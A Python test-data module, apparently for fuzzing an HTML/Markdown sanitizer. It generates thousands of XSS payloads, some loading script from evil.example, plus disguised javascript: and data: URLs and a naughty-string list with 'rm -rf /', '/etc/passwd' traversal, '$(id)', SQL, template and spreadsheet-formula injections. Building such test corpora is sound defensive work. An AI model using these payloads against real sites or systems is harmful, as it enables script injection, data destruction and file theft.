"""Text that means harm: scripts in every dress, addresses that run, and letters that programs stumble over."""

from __future__ import annotations

from html import escape
from itertools import product
from urllib.parse import quote

# What every payload tries to do: leave a mark in the page, and call a host.
CALL = "pwned=1"
HOST = "//evil.example/"

VECTORS = (
    "<script>{call}</script>",
    "<script src={host}x.js></script>",
    "<img src=x onerror={call}>",
    "<img src={host}x.png>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href={host}x.svg#a></use></svg>",
    "<math><mi xlink:href=javascript:{call}>x</mi></math>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<iframe src={host}></iframe>",
    "<object data={host}x></object>",
    "<embed src={host}x>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<details open ontoggle={call}>x</details>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<body onload={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<link rel=stylesheet href={host}x.css>",
    "<link rel=prefetch href={host}x>",
    "<style>@import '{host}x.css';</style>",
    "<style>*{{background:url({host}x)}}</style>",
    "<p style='background:url({host}x)'>x</p>",
    "<meta http-equiv=refresh content='0;url={host}'>",
    "<base href={host}>",
    "<form action={host}><button autofocus>x</button></form>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",
    "<a href=javascript:{call}>x</a>",
    "<xss onpointerrawupdate={call} style=position:fixed;inset:0>x</xss>",
    "<custom-x tabindex=1 autofocus onfocus={call}>x</custom-x>",
    "[x](javascript:{call})",
    "[x](javascript&colon;{call})",
    "[x](<java\tscript:{call}>)",
    "![x]({host}x.png)",
    "![x](x 'onerror={call}')",
    '[x](http://a "onmouseover={call}")',
    "<javascript:{call}>",
    "[x]: javascript:{call}\n\n[x]",
    "`<img src=x onerror={call}>`",
    "| <img src=x onerror={call}> |\n|-|\n| x |",
    "{{{{ {call} }}}}{{% raw %}}",
    "${{{call}}}",
    "'-({call})-'",
    "\\u003cimg src=x onerror={call}\\u003e",
)  # fmt: skip

CONTEXTS = (
    "{0}",  # text
    '">{0}',
    "'>{0}",
    "`>{0}",
    "-->{0}",
    "]]>{0}",
    "</title>{0}",
    "</textarea>{0}",
    "</style>{0}",
    "</script>{0}",
    "</p></main></body>{0}",
    '" onmouseover="pwned=1" autofocus onfocus="pwned=1" x="{0}',
    "' onfocus='pwned=1' autofocus x='{0}",
    "x {0} y {0}",
    "<b {0}",
    "<<{0}",
    "&{0};",
    "\\{0}",
    "**{0}**",
)

ENCODINGS = {
    "plain": lambda text: text,
    "upper": lambda text: text.upper().replace("PWNED", "pwned"),
    "entities": escape,
    "hexadecimal entities": lambda text: "".join(f"&#x{ord(char):x};" if char in "<>\"'" else char for char in text),
    "decimal entities without end": lambda text: "".join(
        f"&#{ord(char):07}" if char in "<>" else char for char in text
    ),
    "percent": lambda text: quote(text, safe=" ="),
    "full width": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "slashes for spaces": lambda text: text.replace(" ", "/"),
    "tabs for spaces": lambda text: text.replace(" ", "\t"),
}


def payloads() -> list[str]:
    """Vectors in contexts in encodings: some eight thousand, each once."""
    made = (
        encode(context.format(vector.format(call=CALL, host=HOST)))
        for (vector, context), encode in product(product(VECTORS, CONTEXTS), ENCODINGS.values())
    )
    return list(dict.fromkeys(made))


SCHEMES = (
    "javascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "file:///",
    "blob:",
    "ftp://",
    "about:",
    "view-source:",
    "intent:",
)
DISGUISES = (
    "{0}", " {0}", "\t{0}", "\x01{0}", "\u00a0{0}", "\u200b{0}", "\ufeff{0}", "\u202e{0}", "url:{0}", "http:{0}", "https:{0}", "//{0}", "\\\\{0}",
    "?{0}", "#{0}", "/{0}", "./{0}", "http://\\{0}", "http://a@{0}", "feed:{0}", "jar:{0}", "&#32;{0}", "%20{0}",
)  # fmt: skip


def addresses() -> list[str]:
    """Addresses that run something, or that lead elsewhere than they say; none may become a link."""
    made = [
        disguise.format(f"{spelling}pwned=1")
        for scheme, disguise in product(SCHEMES, DISGUISES)
        for spelling in (scheme, scheme.upper(), scheme[:4] + "\t" + scheme[4:], scheme[:4] + "\n" + scheme[4:],
                         scheme.replace(":", "&colon;"), scheme.replace(":", "\uff1a"), scheme.replace("a", "&#97;"),
                         scheme.replace("s", "\u017f"), scheme.replace("a", "\u0430"), quote(scheme, safe=""))
    ]  # fmt: skip
    hosts = (
        "https://good.example@evil.example/", "https://good.example:443@evil.example/", "https://good.example%40evil.example/",
        "https://good.example\\@evil.example/", "https:/evil.example", "https:evil.example", "https:///evil.example", "//evil.example",
        "\\\\evil.example", "/\\evil.example", "http://", "https://?x", "https://#x", "https://.evil.example", "https://a b/",
        "https://a:b:c/", "https://a:99999999/", "https://[::1", "https://[evil]/", "http://\u202egpj.example", "https://exa\u00admple.org/",
    )  # fmt: skip
    return list(dict.fromkeys([*made, *hosts]))


NAUGHTY = (
    "undefined", "null", "NaN", "true", "None", "Infinity", "1/0", "0x0", "1e1000", "١٢٣", "½", "１２３", "-0", "1,0,0", "٠",
    "/dev/null", "../../../../etc/passwd", "C:\\con\\con", "file.txt\u2024exe", "$HOME", "`id`", "$(id)", "%n%s%x", "; rm -rf /", "| cat",
    "' OR 1=1 --", "Robert'); DROP TABLE x;--", '{"a": ', "]]>", "<!-- ", "--><?php", "<%= 1 %>", "{{7*7}}", "{% include 'x' %}", "#{7*7}", "${7*7}",
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3", "\u202ereversed", "\u2066isolate\u2069", "\u200bzero\u200bwidth", "a\u0300\u0301\u0302\u0303" * 20,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀", "👩‍👩‍👧‍👦🏳️‍🌈", "🇩🇪🇺🇸", "ﷺ", "עברית ערבית", "مرحبا", "ꙮ", "İIıi", "ﬃ", "ẞß",
    "\u2028", "\x85", "\u00a0", "\u3000", "\u00ad", "\u2060", "\ufeff", "\ufffd", "\U0010fffd", "\ue000", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "a" * 5000, "W" * 300,
    "* * *", "---", "```", "~~~\nx", "    code", "> > > x", "1. 2. 3.", "| a |\n|---|", "[", "](", "[a][b]", "![", "<http://", "\\", "&", "&#0;", "&#xd800;",
    "&#x202e;", "&amp;lt;", "&NotEqualTilde;", "<", ">", '"', "'", "`", "´", "«", "©", "https://example.org/?a=1&b=2#c", "mailto:a@b.c", "tel:1",
)  # fmt: skip
